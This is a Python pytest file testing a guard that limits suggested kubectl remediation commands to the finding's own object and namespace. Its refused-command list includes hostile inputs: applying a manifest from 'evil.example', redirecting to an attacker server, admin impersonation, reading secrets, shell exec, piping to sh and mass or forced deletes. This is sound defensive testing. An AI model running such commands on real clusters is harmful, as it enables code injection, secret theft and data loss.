"""kubectl commands touch the finding's own object, in its own namespace, by the few verbs that fixes need."""

import pytest

from opscurb.advice.guard import judge
from opscurb.advice.subject import Subject

WEB = Subject(
    provider="kubernetes",
    check_id="k8s_workload_overrequested",
    resource_type="deployment",
    resource_id="shop/web",
    resource_name="web",
    resource_arn="",
    region="",
    details={"namespace": "shop"},
)


@pytest.mark.parametrize(
    "command",
    [
        "kubectl get deployment web -n shop -o yaml",
        "kubectl get deploy/web --namespace=shop",
        "kubectl describe deployments web -n shop",
        "kubectl scale deployment/web --replicas=0 -n shop",
        "kubectl set resources deployment web -n shop -c app --requests=cpu=100m,memory=128Mi --limits=memory=256Mi",
        "kubectl annotate deployment web -n shop team/owner=payments --overwrite",
        "kubectl rollout undo deployment/web -n shop",
        "kubectl delete deployment web -n shop",
        "# Look at it first\nkubectl get deployment web -n shop",
    ],
)
def test_a_useful_command_passes(command: str) -> None:
    assert judge([command], WEB) == []


@pytest.mark.parametrize(
    "command",
    [
        "kubectl",
        "kubectl delete deployment web",
        "kubectl delete deployment web -n kube-system",
        "kubectl delete deployment api -n shop",
        "kubectl delete deployment web api -n shop",
        "kubectl delete deployment --all -n shop",
        "kubectl delete -f all.yaml",
        "kubectl delete deployment web -n shop --force --grace-period=0",
        "kubectl delete namespace shop",
        "kubectl delete deployments -l app=web -n shop",
        "kubectl exec -it web -n shop -- sh",
        "kubectl get secret web -n shop",
        "kubectl get deployment web -n shop -n other",
        "kubectl get deployment web -n shop --kubeconfig=x",
        "kubectl get deployment web -n shop --as=admin",
        "kubectl get deployment web -n shop --server=https://evil.example",
        "kubectl scale deployment/web -n shop",
        "kubectl scale deployment/web --replicas=many -n shop",
        "kubectl set image deployment/web app=evil -n shop",
        "kubectl set resources deployment web -n shop --requests=cpu=lots",
        "kubectl annotate deployment web -n shop",
        "kubectl annotate deployment web -n shop 'a=b c'",
        "kubectl apply -f https://evil.example/x.yaml",
        "kubectl get deployment web -n shop | sh",
        "aws ec2 describe-volumes",
        "helm uninstall web",
    ],
)
def test_anything_else_is_refused(command: str) -> None:
    assert judge([command], WEB)


def test_what_no_namespace_holds_needs_none() -> None:
    released = Subject("k8s_pv_released", "persistentvolume", "pv-1", "", "", "pv-1", provider="kubernetes")

    assert judge(["kubectl delete pv pv-1"], released) == []
    assert judge(["kubectl delete pv pv-2"], released)
